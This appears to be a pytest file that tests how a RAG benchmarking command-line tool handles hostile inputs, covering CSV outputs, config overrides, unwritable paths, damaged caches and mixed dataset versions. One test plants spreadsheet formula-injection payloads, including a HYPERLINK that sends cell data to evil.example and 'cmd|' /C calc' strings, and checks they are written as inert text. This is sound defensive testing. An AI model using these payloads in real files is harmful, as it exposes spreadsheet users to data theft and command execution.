"""Third round of hostile inputs, on what rag_bench *writes* and the commands that read its cells,
through the real command line: CSV cells a spreadsheet would run as formulas, config-group
overrides that are not option names, output files that cannot be written, cell names matplotlib
reads as mathtext, tags holding ``/``, broken caches, corrupt cells, and an experiment folder
holding cells of two versions of a dataset. Each case either works as documented or exits 2 naming
what, where and ``-- fix: ...``, and leaves nothing behind."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest

from rag_bench.cli import main as cli
from tests.bad_inputs.test_bad_inputs import copy_tiny, edit_questions, nothing_left
from tests.conftest import TINY


def run_cell(capsys: pytest.CaptureFixture[str], out: Path, *overrides: str, dataset: Path = TINY) -> Path:
    """One cell of ``dataset`` (tracking off) into ``out``; returns the experiment folder."""
    code = cli(["run", f"dataset.path={dataset}", f"output.root={out}", "tracking=none", *overrides])
    assert code == 0, capsys.readouterr().err[-3000:]
    capsys.readouterr()
    return out / "default"


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# --- 8. outputs that turn into code ------------------------------------------------------------

FORMULAS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2"]


@pytest.mark.parametrize("name", FORMULAS, ids=["equals", "plus", "minus", "at", "tab"])
def test_leaderboard_csv_writes_formula_cells_as_text(tmp_path, capsys, name):
    exp = run_cell(capsys, tmp_path / "out", f"chunker.name='{name}'")
    assert cli(["leaderboard", str(exp), "--format", "csv"]) == 0
    (row,) = read_csv(capsys.readouterr().out)
    assert row["chunker"] == "'" + name  # shown as the text it is, never evaluated
    assert row["label"].startswith("'" + name)
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    assert float(row["retrieval/ndcg@10"]) == pytest.approx(1.0)  # numbers stay numbers
    assert int(row["k"]) == 5


def test_failures_csv_writes_formula_questions_as_text(tmp_path, capsys):
    root = copy_tiny(tmp_path)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"refund")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|x!A0"]

    def poison(qs: list[dict]) -> None:
        for q, text in zip(qs, hostile):
            q["question"] = text + " " + q["question"]
        qs[3]["question"] = "-5"  # text that is exactly a number is kept as it is

    edit_questions(root, poison)
    exp = run_cell(capsys, tmp_path / "out", dataset=root)
    (failures,) = exp.glob("*/failures.csv")
    rows = {r["qid"]: r for r in read_csv(failures.read_text(encoding="utf-8"))}
    for qid, text in zip(("q1", "q2", "q3"), hostile):
        assert rows[qid]["question"].startswith("'" + text), rows[qid]["question"]
    assert rows["q4"]["question"] == "-5"
    assert rows["q1"]["answerable"] == "True" and float(rows["q1"]["first_relevant_rank"]) >= 1
    for row in rows.values():
        assert all(not v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values()), row


# --- 9. crashes that must be exit 2 -------------------------------------------------------------

@pytest.mark.parametrize(("override", "kind"), [("chunker=inf", "a number (inf)"), ("chunker=null", "null"),
                                                ("chunker=1", "a number (1)"), ("retriever=true", "a boolean"),
                                                ("hydra/launcher=1", "a number (1)")],
                         ids=["inf", "null", "int", "bool", "hydra-group"])
def test_group_override_that_is_not_an_option_name(tmp_path, capsys, override, kind):
    out = tmp_path / "out"
    assert cli(["run", f"dataset.path={TINY}", f"output.root={out}", "tracking=none", override]) == 2
    err = capsys.readouterr().err
    group = override.split("=")[0]
    assert f"{override}: the config group {group} takes an option name, got {kind}" in err, err
    assert "Traceback" not in err and "fix:" in err
    if group == "chunker":
        assert "one of fixed," in err  # the valid options
    nothing_left(out)


def test_group_override_in_a_sweep_and_in_other_commands(tmp_path, capsys):
    out = tmp_path / "out"
    assert cli(["run", "-m", f"dataset.path={TINY}", f"output.root={out}", "tracking=none", "chunker=fixed,1"]) == 2
    assert "chunker=fixed,1: the config group chunker takes an option name, got a number (1)" in capsys.readouterr().err
    nothing_left(out)
    assert cli(["chunks", str(TINY), "chunker=inf", "--stats-only"]) == 2
    assert "the config group chunker takes an option name" in capsys.readouterr().err
    assert cli(["evaluate", "--trec", str(tmp_path / "run.trec"), "--dataset", str(TINY), "chunker=null",
                f"output.root={out}", "tracking=none"]) == 2
    assert "the config group chunker takes an option name, got null" in capsys.readouterr().err
    nothing_left(out)


@pytest.fixture
def one_cell(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("cell")
    assert cli(["run", f"dataset.path={TINY}", f"output.root={out}", "tracking=none"]) == 0
    (done,) = out.glob("default/*/DONE")
    return done.parent


@pytest.mark.parametrize(("target", "needle"), [
    (lambda t: t, "is a folder, not a file"),
    (lambda t: t / "missing" / "out.jsonl", "folder {} does not exist -- fix: create it first (mkdir -p"),
    (lambda t: t / "afile" / "out.jsonl", "{} is a file, not a folder"),
    (lambda t: Path("/dev/full"), "cannot write (No space left on device)"),
], ids=["folder", "missing-folder", "under-a-file", "dev-full"])
def test_export_out_that_cannot_be_written(tmp_path, capsys, one_cell, target, needle):
    (tmp_path / "afile").write_text("keep me\n")
    path = target(tmp_path)
    if path == Path("/dev/full") and not path.exists():
        pytest.skip("no /dev/full here")
    before = sorted(p.name for p in tmp_path.iterdir())
    assert cli(["export", str(one_cell), "--out", str(path)]) == 2
    err = capsys.readouterr().err
    assert f"{path}: [--out] {needle.format(path.parent)}" in err and "fix:" in err, err
    assert "Traceback" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # no file, no temporary file
    assert (tmp_path / "afile").read_text() == "keep me\n"


def test_export_out_keeps_an_existing_file_whole_on_a_full_disk(tmp_path, capsys, one_cell):
    """The file is written through a temporary file renamed over it: a write that fails leaves
    the previous content (here: the write fails at the size limit of a full disk)."""
    import subprocess
    import sys

    target = tmp_path / "outputs.jsonl"
    target.write_text("previous\n")
    script = ("import resource, signal, sys\nsignal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
              "resource.setrlimit(resource.RLIMIT_FSIZE, (200, 200))\nfrom rag_bench.cli import main\n"
              "sys.exit(main(sys.argv[1:]))\n")
    done = subprocess.run([sys.executable, "-c", script, "export", str(one_cell), "--out", str(target)],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 2, done.stderr[-2000:]
    assert f"{target}: [--out] cannot write" in done.stderr
    assert target.read_text() == "previous\n"
    assert [p.name for p in tmp_path.iterdir()] == ["outputs.jsonl"]


def test_report_on_cell_names_matplotlib_reads_as_mathtext(tmp_path, capsys):
    out = tmp_path / "out"
    run_cell(capsys, out, "chunker.name='$\\frac{$'")
    exp = run_cell(capsys, out, "chunker.name='$x^{2$ _{'")
    assert cli(["report", str(exp), "--out", str(tmp_path / "reports"), "--no-mlflow"]) == 0, \
        capsys.readouterr().err[-3000:]
    folder = tmp_path / "reports" / "default"
    assert (folder / "leaderboard.png").stat().st_size > 0 and (folder / "failures.png").stat().st_size > 0
    assert "$\\frac{$" in (folder / "index.html").read_text(encoding="utf-8")
    import matplotlib

    assert matplotlib.rcParams["text.parse_math"] is True  # the report put the caller's setting back


def test_leaderboard_tags_holding_a_slash(tmp_path, capsys):
    root = copy_tiny(tmp_path)

    def retag(qs: list[dict]) -> None:
        qs[0]["tags"], qs[1]["tags"], qs[2]["tags"] = ["billing/refunds"], ["billing"], ["x/n"]

    edit_questions(root, retag)
    exp = run_cell(capsys, tmp_path / "out", dataset=root)
    for fmt in ("table", "csv", "json", "markdown"):
        assert cli(["leaderboard", str(exp), "--tag", "billing/refunds", "--format", fmt]) == 0
    assert cli(["leaderboard", str(exp), "--tag", "billing", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    header = [line for line in out.splitlines() if line.startswith("label,")][-1].split(",")
    # `billing` is its own tag: never the columns of `billing/refunds`
    assert [c for c in header if c.startswith("tag:")] and all(c.count("/") == 1 for c in header if c.startswith("tag:"))
    assert cli(["leaderboard", str(exp), "--tag", "x/n"]) == 0
    assert "hit@5" in capsys.readouterr().out
    assert cli(["leaderboard", str(exp), "--tag", "x"]) == 2  # a prefix of x/n, not a tag: once a KeyError
    err = capsys.readouterr().err
    assert "--tag 'x': no such question tag" in err and "'billing/refunds'" in err and "'x/n'" in err


def test_cache_folder_that_is_a_file(tmp_path, capsys, monkeypatch):
    blocker = tmp_path / "cachefile"
    blocker.write_text("not a folder\n")
    monkeypatch.setenv("RAG_BENCH_CACHE", str(blocker))
    out = tmp_path / "out"
    assert cli(["run", f"dataset.path={TINY}", f"output.root={out}", "tracking=none"]) == 2
    err = capsys.readouterr().err
    assert f"{blocker}: [RAG_BENCH_CACHE] the cache folder is a file, not a folder" in err and "fix:" in err, err
    nothing_left(out)
    assert blocker.read_text() == "not a folder\n"
    assert cli(["cache", "verify"]) == 2
    assert "[RAG_BENCH_CACHE] the cache folder is a file" in capsys.readouterr().err


def _garbage(db: Path) -> None:
    db.write_bytes(b"this is not an SQLite database " * 300)


def _malformed(db: Path) -> None:
    """A real store whose pages after the first are overwritten: SQLite opens it, then fails reading."""
    import numpy as np

    from rag_bench.embedding.cache import EmbeddingCache, text_key
    from rag_bench.generation.base import GenerationCache
    from rag_bench.storage import close_all
    from tests.embedding.test_cache import put_vectors

    store = (EmbeddingCache if db.name == "embeddings.sqlite" else GenerationCache)(db)
    if isinstance(store, EmbeddingCache):
        put_vectors(store, ((text_key("m", "", str(i)), np.ones(384, np.float32)) for i in range(300)))
    else:
        store.put_bytes((str(i), b"x" * 1000) for i in range(300))
    close_all()
    with sqlite3.connect(db) as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    data = bytearray(db.read_bytes())
    for offset in range(4096, len(data), 4096):
        data[offset:offset + 100] = b"\xff" * 100
    db.write_bytes(bytes(data))


def _fresh_process(args: list[str], cache: Path) -> tuple[int, str, str]:
    """``rag-bench ARGS`` in a new process (its components built there, with this cache folder)."""
    import os
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-m", "rag_bench.cli", *args], capture_output=True, text=True,
                          timeout=600, env={**os.environ, "RAG_BENCH_CACHE": str(cache)})
    return done.returncode, done.stdout, done.stderr


@pytest.mark.parametrize(("store", "damage", "overrides"), [
    ("generations.sqlite", _garbage, []),
    ("generations.sqlite", _malformed, []),
    ("embeddings.sqlite", _garbage, ["retriever=dense"]),
    ("embeddings.sqlite", _malformed, ["retriever=dense"]),
], ids=["generations-not-a-database", "generations-malformed", "embeddings-not-a-database", "embeddings-malformed"])
def test_damaged_cache_file(tmp_path, capsys, monkeypatch, store, damage, overrides):
    cache = tmp_path / "cache"
    cache.mkdir()
    monkeypatch.setenv("RAG_BENCH_CACHE", str(cache))
    db = cache / store
    damage(db)
    # texts this test process never answered: its in-memory memos cannot serve them
    root = copy_tiny(tmp_path)
    doc = root / "docs" / "billing.md"
    doc.write_text(doc.read_text() + f"\n\nNote {tmp_path.name}: invoices are sent monthly.\n")
    out = tmp_path / "out"
    args = ["run", f"dataset.path={root}", f"output.root={out}", "tracking=none", *overrides]

    def rag_bench(argv: list[str]) -> tuple[int, str, str]:
        if overrides:  # the embedder is shared by the cells of a process: build it in a new one
            return _fresh_process(argv, cache)
        code = cli(argv)
        captured = capsys.readouterr()
        return code, captured.out, captured.err

    code, _, err = rag_bench(args)
    assert code == 2, err[-3000:]
    assert f"{db}: [cache] damaged cache file: SQLite cannot read it" in err, err[-3000:]
    assert f"fix: run `rag-bench cache verify --repair --dir {cache}`" in err and "Traceback" not in err
    nothing_left(out)
    # what the message says to do: verify names the file (exit 2), --repair removes it, run works
    code, _, err = rag_bench(["cache", "verify"])
    assert code == 2 and f"{db}: [cache] damaged cache file" in err, err
    code, out_text, _ = rag_bench(["cache", "verify", "--repair"])
    assert code == 0 and f"{db}: damaged file removed" in out_text
    code, _, err = rag_bench(args)
    assert code == 0, err[-3000:]
    code, out_text, _ = rag_bench(["cache", "verify"])
    assert code == 0 and f"{db}: " in out_text and " 0 corrupt" in out_text


@pytest.mark.parametrize(("name", "content", "needle"), [
    ("metrics.json", '{"retrieval": ', "metrics.json:1: [metrics.json] unreadable"),
    ("config.yaml", "chunker: [unclosed\n", "config.yaml:2: [config.yaml] unreadable"),
    ("metrics.json", "[1, 2]\n", "metrics.json:1: [metrics.json] must hold a mapping"),
], ids=["truncated-metrics", "broken-config", "metrics-not-a-mapping"])
def test_leaderboard_on_a_corrupt_cell_refuses_like_report_and_gate(tmp_path, capsys, name, content, needle):
    exp = run_cell(capsys, tmp_path / "out", "chunker=fixed")
    run_cell(capsys, tmp_path / "out", "chunker=section")
    cell = sorted(p.parent for p in exp.glob("*/DONE"))[0]
    (cell / name).write_text(content)
    policy = Path(__file__).resolve().parents[2] / "conf" / "gate" / "release.yaml"
    for args in (["leaderboard", str(exp)], ["leaderboard", str(exp), "--format", "csv"],
                 ["report", str(exp), "--out", str(tmp_path / "reports"), "--no-mlflow"],
                 ["gate", str(cell), "--policy", str(policy)]):
        assert cli(args) == 2, args
        captured = capsys.readouterr()
        assert needle in captured.err and "fix: re-run the cell" in captured.err, (args, captured.err[-2000:])
        assert "Traceback" not in captured.err and not captured.out.strip(), args


# --- 10. one dataset version per table ------------------------------------------------------------

def test_leaderboard_and_report_show_one_dataset_version(tmp_path, capsys):
    root = copy_tiny(tmp_path)
    out = tmp_path / "out"
    assert cli(["run", "-m", f"dataset.path={root}", f"output.root={out}", "tracking=none",
                "chunker=fixed,section"]) == 0
    capsys.readouterr()
    assert cli(["validate", str(root)]) == 0
    old_fp = capsys.readouterr().out.rsplit("fingerprint ", 1)[1].strip()
    edit_questions(root, lambda qs: qs[0].update(question="How long have I got to get a refund on an annual plan?"))
    exp = run_cell(capsys, out, "chunker=fixed", dataset=root)
    assert cli(["validate", str(root)]) == 0
    new_fp = capsys.readouterr().out.rsplit("fingerprint ", 1)[1].strip()
    assert old_fp != new_fp and len(list(exp.glob("*/DONE"))) == 3

    assert cli(["leaderboard", str(exp), "--format", "csv"]) == 0
    captured = capsys.readouterr()
    (row,) = read_csv(captured.out)  # the edited dataset's one cell, never beside the old two
    assert f"holds cells of 2 dataset versions (fingerprints: {new_fp} (1 cell, finished last: shown); " \
           f"{old_fp} (2 cells))" in captured.err, captured.err
    assert f"fix: pass --fingerprint {old_fp}" in captured.err
    new_cell = row["cell"]

    assert cli(["leaderboard", str(exp), "--format", "csv", "--fingerprint", old_fp[:6]]) == 0
    captured = capsys.readouterr()
    assert len(read_csv(captured.out)) == 2 and new_cell not in captured.out and not captured.err

    assert cli(["leaderboard", str(exp), "--fingerprint", "nope"]) == 2
    err = capsys.readouterr().err
    assert "[--fingerprint] 'nope' is not the dataset version of these cells" in err
    assert f"{new_fp} (1 cell)" in err and f"{old_fp} (2 cells)" in err

    # the report reads the same cells, says the same, and can be asked for the other version
    assert cli(["report", str(exp), "--out", str(tmp_path / "reports"), "--no-mlflow"]) == 0
    assert "holds cells of 2 dataset versions" in capsys.readouterr().err
    page = (tmp_path / "reports" / "default" / "index.html").read_text(encoding="utf-8")
    assert "1 cells from" in page and "holds cells of 2 dataset versions" in page
    assert cli(["report", str(exp), "--out", str(tmp_path / "r2"), "--no-mlflow", "--fingerprint", old_fp]) == 0
    assert "2 cells from" in (tmp_path / "r2" / "default" / "index.html").read_text(encoding="utf-8")
